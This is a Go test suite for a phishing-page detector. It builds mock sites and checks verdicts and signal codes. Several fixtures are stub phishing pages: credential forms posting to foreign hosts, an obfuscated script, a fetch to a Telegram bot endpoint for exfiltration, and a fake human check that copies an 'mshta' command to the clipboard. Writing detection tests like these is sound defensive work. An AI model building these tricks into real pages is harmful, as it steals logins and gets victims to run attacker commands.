package phishing

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net/http"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/diagkit/diagkit/diag"
	"github.com/diagkit/diagkit/diag/diagtest"
	"github.com/diagkit/diagkit/diag/rule"
	"github.com/miekg/dns"
	"github.com/stretchr/testify/require"
)

func markup(body string) http.HandlerFunc {
	return func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, "<!doctype html><html lang=en>"+body)
	}
}

const password = `<form method=post action="%s"><input name=email><input type=password name=pw></form>`

func login(title, action string) http.HandlerFunc {
	return markup("<title>" + title + "</title><p>Sign in to go on.</p>" + fmt.Sprintf(password, action))
}

// loginAt opens a site with a page to log in.
func loginAt(host, title, action string) func(*diagtest.World) {
	return func(w *diagtest.World) { w.HTTPS(host, login(title, action)) }
}

// registered answers for a domain of .com that has been registered for some days.
func registered(w *diagtest.World, domain string, age int) {
	w.RDAP("rdap.verisign.com", map[string]string{"/com/v1/domain/" + domain: fmt.Sprintf(`{"objectClassName": "domain",
		"ldhName": %q, "events": [{"eventAction": "registration", "eventDate": %q}]}`,
		domain, w.Now().AddDate(0, 0, -age).UTC().Format(time.RFC3339))})
}

// exampleRegistry answers for names of .example, which were registered long ago.
func exampleRegistry(w *diagtest.World) {
	answers := map[string]string{}
	for _, name := range strings.Fields("a b c app bank blog broken firm forum gone inside news shop short") {
		answers[name+".example"] = "Domain Name: " + name + ".example\nCreation Date: 2019-05-01T00:00:00Z\nRegistrar: Some\n"
	}
	w.Whois("whois.iana.org", map[string]string{"": "domain: EXAMPLE\nwhois: whois.nic.example\n"})
	w.Whois("whois.nic.example", answers)
}

var worlds = []struct {
	name, url string
	build     func(*diagtest.World)
	verdict   Verdict
	codes     string // some of those found, and with a minus sign some that must not be
	headline  string // a part of it
}{
	{"good", "https://example.com/", func(w *diagtest.World) {
		w.HTTPS("example.com", markup("<title>Example</title><p>Hello"))
		registered(w, "example.com", 3000)
	}, Clean, "", "No phishing signal found"},
	{"good with a login of its own", "https://example.com/", func(w *diagtest.World) {
		w.HTTPS("example.com", login("Example", "/session"))
		registered(w, "example.com", 3000)
	}, Clean, "-phishing.page.password.foreign -phishing.page.brand_login",
		"No phishing signal found"},
	{"a brand's own", "https://www.paypal.com/signin?returnUri=https%3A%2F%2Fwww.paypal.com%2Fmyaccount",
		func(w *diagtest.World) {
			w.HTTPS("www.paypal.com", login("Log in to PayPal", "https://www.paypal.com/signin"))
		}, Clean, "-phishing.url.keyword", "Host belongs to PayPal"},
	{"copy on another domain", "https://shop.example/", func(w *diagtest.World) {
		w.HTTPS("shop.example", login("PayPal: log in", "https://collect.example/post.php"))
	}, Malicious, "phishing.page.brand_login phishing.page.password.foreign", "in the name of PayPal"},
	{"mail form", "https://shop.example/", func(w *diagtest.World) {
		w.HTTPS("shop.example", login("Netflix", "mailto:thief@example.net"))
	}, Suspicious, "phishing.page.password.nowhere phishing.page.brand_login", ""},
	{"blog", "https://blog.example/", loginAt("blog.example", "Log In ‹ My Blog — WordPress", ""),
		Clean, "-phishing.page.brand_login", ""},
	{"software on its own host", "https://gitlab.firm.example/users/sign_in", loginAt("gitlab.firm.example",
		"Sign in · GitLab", "/in"),
		Clean, "-phishing.page.brand_login", ""},
	{"login with a provider", "https://app.example/login", loginAt("app.example", "Sign in with Google | My App",
		"https://accounts.google.com/o"),
		Clean, "-phishing.page.brand_login -phishing.page.password.foreign", ""},
	{"login at another company", "https://bank.example/", loginAt("bank.example", "Our Bank",
		"https://it.firm.example/portal"),
		Clean, "phishing.page.password.foreign", "Only weak"},
	{"forum with a login on each page", "https://forum.example/t/1", loginAt("forum.example",
		"PayPal does not pay me | Forum", "/login"),
		Clean, "phishing.page.brand_title -phishing.page.brand_login", ""},
	{"copy in other words", "https://shop.example/", loginAt("shop.example", "Log in to your PayPal account", "/x"),
		Suspicious, "phishing.page.brand_login", "in the name of PayPal"},
	{"copy on a free host", "https://login-page.netlify.app/", loginAt("login-page.netlify.app", "Netflix", "/x"),
		Malicious, "phishing.page.brand_login phishing.host.free_hosting", "in the name of Netflix"},
	{"new site of a club", "https://my-club.com/", func(w *diagtest.World) {
		cert := w.Certificate(diagtest.CertSpec{Names: []string{"my-club.com"}, NotBefore: w.Now().AddDate(0, 0, -2)})
		w.Site(diagtest.Site{Host: "my-club.com", Handler: markup("<title>My club</title><p>hello"),
			TLS: &tls.Config{Certificates: []tls.Certificate{cert}, Time: w.Now}})
		registered(w, "my-club.com", 3)
	}, Clean, "phishing.tls.new phishing.registration.new", "Only weak"},
	{"plain http login", "http://shop.example/", func(w *diagtest.World) {
		w.HTTP("shop.example", login("Shop", "/in"))
	}, Clean, "phishing.page.password.insecure phishing.url.unencrypted", "Only weak"},
	{"insecure form on https", "https://shop.example/", func(w *diagtest.World) {
		w.HTTPS("shop.example", login("Shop", "http://shop.example/in"))
	}, Clean, "phishing.page.password.insecure", ""},
	{"kit", "https://shop.example/wp-content/x/", func(w *diagtest.World) {
		w.HTTPS("shop.example", markup(`<title>Sign in</title><link rel=icon href="https://www.paypal.com/favicon.ico">`+
			`<script>eval(unescape("%64%6f"))</script><script>fetch("https://api.telegram.org/bot123:abc/sendMessage")</script>`+
			`<iframe src="https://other.example/" style="display: none"></iframe>`+
			`<a href="https://www.paypal.com/a">a</a><a href="https://www.paypal.com/b">b</a><a href="https://www.paypal.com/c">c</a>`+
			`<a href="https://www.paypal.com/d">d</a><a href="https://www.paypal.com/e">e</a>`+fmt.Sprintf(password, "/x")))
	}, Malicious,
		"phishing.page.icon phishing.page.obfuscated phishing.page.exfiltration phishing.page.hidden_frame " +
			"phishing.page.links phishing.url.program_directory", "chat or form service"},
	{"news about a brand", "https://news.example/", func(w *diagtest.World) {
		w.HTTPS("news.example", markup("<title>PayPal warns of phishing</title><p>text"))
	}, Clean, "phishing.page.brand_title", ""},
	{"page of nothing but a frame", "https://shop.example/", func(w *diagtest.World) {
		w.HTTPS("shop.example", markup(`<title>x</title><iframe src="https://other.example/login"></iframe>`))
	}, Inconclusive, "phishing.page.frame", "a script or a frame"},
	{"frame of a lookalike", "https://shop.example/", func(w *diagtest.World) {
		w.HTTPS("shop.example", markup(`<title>x</title><iframe src="https://login.microsoftonline.com.firm.example/"></iframe>`))
	}, Suspicious, "phishing.page.frame phishing.lookalike.subdomain", "shows Microsoft"},
	{"page that a script makes", "https://shop.example/", func(w *diagtest.World) {
		w.HTTPS("shop.example", markup(`<title>Shop</title><div id=root></div><script src=/a.js></script>`))
	}, Inconclusive, "", "a script or a frame"},
	{"card form in the name of a courier", "https://shop.example/", func(w *diagtest.World) {
		w.HTTPS("shop.example", markup(`<title>DHL | Pay the fee</title><form method=post><input placeholder="Card number">`+
			`<input placeholder=CVV></form>`))
	}, Suspicious, "phishing.page.brand_secret", "in the name of DHL"},
	{"card form of a shop", "https://shop.example/pay", func(w *diagtest.World) {
		w.HTTPS("shop.example", markup(`<title>Shop | Pay</title><form method=post><input autocomplete=cc-number>`+
			`<input autocomplete=cc-csc></form><img src=visa.svg alt=Visa><img src=paypal.svg alt=PayPal>`))
	}, Clean, "-phishing.page.brand_secret", ""},
	{"logo in place of a title", "https://shop.example/", func(w *diagtest.World) {
		w.HTTPS("shop.example", markup(`<title>Log in</title><img src=a.svg alt=PayPal>`+fmt.Sprintf(password, "/x")))
	}, Suspicious, "phishing.page.brand_login", "in the name of PayPal"},
	{"brand and another name", "https://forum.example/", loginAt("forum.example", "Netflix | Forum of film lovers", "/in"),
		Inconclusive, "phishing.page.brand_mixed", "does not say clearly"},
	{"form of the brand", "https://shop.example/", func(w *diagtest.World) {
		w.HTTPS("shop.example", login("PayPal", "https://www.paypal.com/signin"))
	}, Clean, "-phishing.page.brand_login", ""},
	{"login without a name", "https://news.example/", loginAt("news.example", "Webmail Login", "/in"),
		Inconclusive, "phishing.page.nameless", "does not say clearly"},
	{"brand that asks for an address first", "https://shop.example/", func(w *diagtest.World) {
		w.HTTPS("shop.example", markup(`<title>Sign in to Microsoft</title><form><input type=email><button>Next</button></form>`))
	}, Inconclusive, "phishing.page.brand_mixed", "does not say clearly"},
	{"bank that the host does not name", "https://news.example/", func(w *diagtest.World) {
		w.HTTPS("news.example", markup(`<title>Kreisbank Nordtal</title><form><input placeholder=PIN><input placeholder=TAN></form>`))
	}, Inconclusive, "phishing.page.unmatched_name", "does not say clearly"},
	{"recovery phrase", "https://shop.example/", func(w *diagtest.World) {
		w.HTTPS("shop.example", markup(`<title>Restore</title><p>Enter your secret recovery phrase.<textarea name=x></textarea>`))
	}, Suspicious, "phishing.page.recovery_phrase", "recovery phrase"},
	{"pasted command", "https://shop.example/", func(w *diagtest.World) {
		w.HTTPS("shop.example", markup(`<title>Just a moment</title><p>Verify you are human: press Windows + R, then Ctrl + V.`+
			`<script>navigator.clipboard.writeText("mshta x")</script>`))
	}, Malicious, "phishing.page.pasted_command", "run a command"},
	{"form that a script writes", "https://shop.example/", func(w *diagtest.World) {
		w.HTTPS("shop.example", markup(`<title>Outlook</title><script>document.write(unescape("%3Cform%3E`+
			`%3Cinput%20type%3Dpassword%20name%3Dp%3E%3C/form%3E"))</script>`))
	}, Malicious, "phishing.page.brand_login phishing.page.obfuscated", "in the name of Microsoft"},
	{"defanged", "hxxps://shop[.]example/", func(w *diagtest.World) {
		w.HTTPS("shop.example", markup("<title>Shop</title><p>hello"))
	}, Clean, "phishing.url.corrected", ""},
	{"host without a registration", "https://someone.github.io/", func(w *diagtest.World) {
		w.HTTPS("someone.github.io", markup("<title>Someone</title><p>hello"))
	}, Inconclusive, "phishing.host.blog", "nobody registered"},
	{"links of its own", "https://shop.example/", func(w *diagtest.World) {
		w.HTTPS("shop.example",
			markup(`<title>x</title><link rel=icon href=/i.png><a href=/1>1</a><a href=/2>2</a><a href=/3>3</a>`+
				`<a href=/4>4</a><a href=/5>5</a>`+fmt.Sprintf(password, "/x")))
	}, Clean, "-phishing.page.links", ""},
	{"bad certificate and new domain", "https://shop-info.com/", func(w *diagtest.World) {
		w.Site(diagtest.Site{Host: "shop-info.com", Handler: markup("<p>hello"), Cert: diagtest.CertSelfSigned})
		registered(w, "shop-info.com", 3)
	}, Suspicious, "phishing.tls.invalid phishing.registration.new", "a few days old"},
	{"young domain with a new certificate", "https://shop-info.com/", func(w *diagtest.World) {
		cert := w.Certificate(diagtest.CertSpec{Names: []string{"shop-info.com"}, NotBefore: w.Now().AddDate(0, 0, -2)})
		w.Site(diagtest.Site{Host: "shop-info.com", Handler: markup("<p>hello"),
			TLS: &tls.Config{Certificates: []tls.Certificate{cert}, Time: w.Now}})
		registered(w, "shop-info.com", 90)
	}, Clean, "phishing.tls.new phishing.registration.young", ""},
	{"not registered", "https://nothing-there.com/", func(w *diagtest.World) {
		w.RDAP("rdap.verisign.com", nil)
		w.Whois("whois.verisign-grs.com", map[string]string{"": "No match for domain \"NOTHING-THERE.COM\".\r\n"})
	}, Inconclusive, "phishing.registration.missing phishing.page.unknown", "no address"},
	{"dead host", "https://gone.example/", nil, Inconclusive, "phishing.page.unknown", "no address"},
	{"dead host of a lookalike", "https://paypa1.com/", nil, Suspicious,
		"phishing.page.unknown phishing.lookalike.homoglyph", "looks like PayPal"},
	{"certificate not yet valid", "https://shop-info.com/", func(w *diagtest.World) {
		w.Site(diagtest.Site{Host: "shop-info.com", Cert: diagtest.CertNotYetValid, Handler: markup("<p>hello")})
		registered(w, "shop-info.com", 900)
	}, Clean, "phishing.tls.invalid -phishing.tls.new", ""},
	{"redirect with a password", "https://shop.example/", func(w *diagtest.World) {
		w.HTTPS("shop.example", http.RedirectHandler("https://user:secret@www.shop.example/", http.StatusFound))
	}, Inconclusive, "phishing.page.unknown", "redirects lead nowhere"},
	{"private address", "https://inside.example/", func(w *diagtest.World) { w.Zone("inside.example. A 10.0.0.1\n") },
		Inconclusive, "phishing.page.unknown", "is not public"},
	{"name servers broken", "https://broken.example/", func(w *diagtest.World) {
		w.Break("broken.example",
			dns.RcodeServerFailure)
	},
		Inconclusive, "phishing.page.unknown", "Page could not be examined"},
	{"refused", "https://shop.example/", func(w *diagtest.World) { w.HTTPS("shop.example", nil) },
		Inconclusive, "phishing.page.unknown", "the server answered 404"},
	{"redirect to a lookalike", "https://short.example/x", func(w *diagtest.World) {
		w.HTTPS("short.example", http.RedirectHandler("https://paypal-secure-login.com/", http.StatusFound))
		w.HTTPS("paypal-secure-login.com", login("PayPal: log in", "/session"))
	}, Malicious, "phishing.lookalike.combo phishing.page.brand_login", "in the name of PayPal"},
	{"meta refresh over three sites", "https://a.example/", func(w *diagtest.World) {
		w.HTTPS("a.example", markup(`<meta http-equiv=refresh content="0;url=https://b.example/">`))
		w.HTTPS("b.example", http.RedirectHandler("https://c.example/", http.StatusFound))
		w.HTTPS("c.example", markup("<p>end"))
	}, Clean, "phishing.redirect.document phishing.redirect.sites", ""},
	{"loop", "https://a.example/", func(w *diagtest.World) {
		w.HTTPS("a.example", http.RedirectHandler("https://b.example/", http.StatusFound))
		w.HTTPS("b.example", http.RedirectHandler("https://a.example/", http.StatusFound))
	}, Inconclusive, "phishing.page.unknown", "redirects lead nowhere"},
	{"redirect beyond what is read", "https://a.example/", func(w *diagtest.World) {
		w.HTTPS("a.example", http.RedirectHandler("/"+strings.Repeat("a", 9000), http.StatusFound))
	}, Inconclusive, "phishing.page.unknown", "very long redirect"},
	{"loop with a cookie", "https://a.example/", func(w *diagtest.World) {
		w.HTTPS("a.example", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Set-Cookie", "seen=1")
			http.Redirect(w, r, "/", http.StatusFound)
		}))
	}, Inconclusive, "phishing.page.unknown", "need a cookie"},
	{"no page", "https://shop.example/x.pdf", func(w *diagtest.World) {
		w.HTTPS("shop.example", http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "application/pdf")
			io.WriteString(w, "%PDF")
		}))
	}, Clean, "", ""},
}

// examined is Check without the report.
func examined(t *testing.T, w *diagtest.World, req Request) (*evidence, *Report) {
	t.Helper()
	e, err := examine(t.Context(), w.Env(), req)
	require.NoError(t, err)
	return e, e.report(w.Env().Now())
}

func TestCheck(t *testing.T) {
	var seen diagtest.Seen
	headlines := map[string]bool{}
	for _, tt := range worlds {
		t.Run(tt.name, func(t *testing.T) {
			w := diagtest.NewWorld(t)
			exampleRegistry(w)
			if tt.build != nil {
				tt.build(w)
			}
			e, r := examined(t, w, Request{URL: tt.url})
			seen.Add(rules().Judge(e, nil))
			hold(t, r)
			require.Equal(t, tt.verdict, r.Verdict, "%d %v", r.RiskScore, r.Signals)
			codes := diagtest.CodesOf(r.Findings)
			for _, code := range strings.Fields(tt.codes) {
				if no, ok := strings.CutPrefix(code, "-"); ok {
					require.NotContains(t, codes, diag.Code(no))
				} else {
					require.Contains(t, codes, diag.Code(code))
				}
			}
			require.Contains(t, r.Headline, tt.headline)
			headlines[r.Headline] = true
		})
	}
	for _, tt := range urls {
		e, _ := alone(t, tt.url)
		seen.Add(rules().Judge(e, nil))
	}
	diagtest.CoverRules(t, rules(), seen)
	require.Greater(t, len(headlines), 12)
}

// hold checks what is true of each report.
func hold(t testing.TB, r *Report) {
	t.Helper()
	require.NotEmpty(t, r.Headline)
	require.LessOrEqual(t, len([]rune(r.Headline)), rule.MaxHeadline, r.Headline)
	require.NotContains(t, r.Headline+r.Sub, "{")
	require.NotContains(t, strings.ToLower(r.Headline+r.Sub), "safe")
	require.GreaterOrEqual(t, r.RiskScore, 0)
	require.LessOrEqual(t, r.RiskScore, 100)
	require.Equal(t, r.RiskScore > 0, len(r.Signals) > 0)
	require.NotNil(t, r.Sources)
	require.NotNil(t, r.Redirects)
	require.NotNil(t, r.Forms)
	for i, s := range r.Signals {
		require.Positive(t, s.Weight)
		require.True(t, s.Triggered)
		require.NotEmpty(t, s.Detail)
		require.True(t, i == 0 || r.Signals[i-1].Weight >= s.Weight)
	}
	if r.Verdict == Suspicious || r.Verdict == Malicious {
		require.NotEmpty(t, r.Signals)
	}
	if r.Verdict == Clean || r.Verdict == Inconclusive {
		require.Less(t, r.RiskScore, suspicious)
	}
}

// What was not looked at is not clean: the URL alone shows no more than that it has no signal (CONTRACT 1.7).
func TestNotFetched(t *testing.T) {
	for url, headline := range map[string]string{
		"https://example.com/":             "No phishing signal in the URL; the page was not tested",
		"https://bit.ly/abc":               "Only weak phishing signals in the URL; the page was not tested",
		"https://www.paypal.com/":          "Host belongs to PayPal; the page was not tested",
		"https://paypal.com.evil.example/": "Host shows PayPal under a domain that is not theirs",
	} {
		_, r := alone(t, url)
		require.Equal(t, headline, r.Headline)
		require.NotEqual(t, Clean, r.Verdict, url)
		require.False(t, r.Partial, "nothing was asked")
	}
}

func TestPartial(t *testing.T) {
	w := diagtest.NewWorld(t)
	w.HTTPS("example.com", markup("<p>x"))
	registered(w, "example.com", 100)
	_, r := examined(t, w, Request{URL: "example.com"})
	require.False(t, r.Partial)
	require.Equal(t, 100, *r.AgeDays)
	require.True(t, r.TLS.Valid)
	require.Equal(t, "diagtest", r.TLS.Issuer)
	require.Contains(t, r.Sub, "Examined: URL, address, page, certificate, registration; not examined: reputation.")

	w = diagtest.NewWorld(t)
	w.HTTPS("example.com", markup("<p>x"))
	_, r = examined(t, w, Request{URL: "example.com"})
	require.True(t, r.Partial, "no registry answered")
	require.Nil(t, r.AgeDays)
}

// A resolver that is dead is our failure; a domain whose registration is unconfirmed is not clean.
func TestSilence(t *testing.T) {
	dead := &diag.Env{Resolver: closed{}}
	_, err := Check(t.Context(), dead, Request{URL: "https://example.com/"})
	require.ErrorIs(t, err, diag.ErrUnavailable)

	w := diagtest.NewWorld(t)
	for _, host := range []string{"example.com", "example-login.com"} {
		w.HTTPS(host, markup("<p>x"))
		_, r := examined(t, w, Request{URL: host})
		require.Equal(t, Inconclusive, r.Verdict, host)
		require.True(t, r.Partial)
		require.Equal(t, diag.ScopePart{Part: "registration of " + host, State: diag.NotAnswered,
			Reason: "no registry gave a usable answer"}, r.Examined[0])
	}
}

// closed is a resolver whose port is closed.
type closed struct{}

func (closed) Exchange(context.Context, *dns.Msg) (*dns.Msg, error) { return nil, syscall.ECONNREFUSED }

func TestForms(t *testing.T) {
	w := diagtest.NewWorld(t)
	w.HTTPS("example.com", markup(`<form><input name=q></form>`+fmt.Sprintf(password, "http://other.example/x")+
		fmt.Sprintf(password, "data:text/html,x")))
	_, r := examined(t, w, Request{URL: "https://example.com/"})
	require.Equal(t, []Form{
		{ActionHost: "example.com"},
		{ActionHost: "other.example", HasPassword: true, CrossOrigin: true, Insecure: true},
		{HasPassword: true, CrossOrigin: true},
	}, r.Forms)
}

func TestSources(t *testing.T) {
	_, err := Check(t.Context(), nil, Request{URL: "example.com", Sources: []string{"a"}})
	var input *diag.InputError
	require.ErrorAs(t, err, &input)
	require.Equal(t, "sources[0]", input.Field)
}

func TestContextEnds(t *testing.T) {
	w := diagtest.NewWorld(t)
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	_, err := Check(ctx, w.Env(), Request{URL: "example.com"})
	require.ErrorIs(t, err, context.Canceled)
}

// Without leave to fetch the registry alone is asked, and the reply says what was left out.
func TestFetchFalseAsksTheRegistryAlone(t *testing.T) {
	w := diagtest.NewWorld(t)
	w.HTTPS("example.com", http.HandlerFunc(func(http.ResponseWriter, *http.Request) { t.Error("the site was visited") }))
	registered(w, "example.com", 3)
	off := false
	_, r := examined(t, w, Request{URL: "https://example.com/", Fetch: &off})
	require.Equal(t, 3, *r.AgeDays)
	require.Contains(t, diagtest.CodesOf(r.Findings), diag.Code("phishing.registration.new"))
	require.Equal(t, Inconclusive, r.Verdict)
	require.False(t, r.Partial)
	require.Contains(t, r.Sub, "Examined: URL, registration; not examined: address, page, certificate, reputation.")
	for _, p := range r.Examined {
		require.Equal(t, p.Part == "URL" || p.Part == "registration of example.com", p.State == diag.Examined, p.Part)
		require.Equal(t, p.State == diag.Examined, p.Reason == "", p.Part)
	}
}
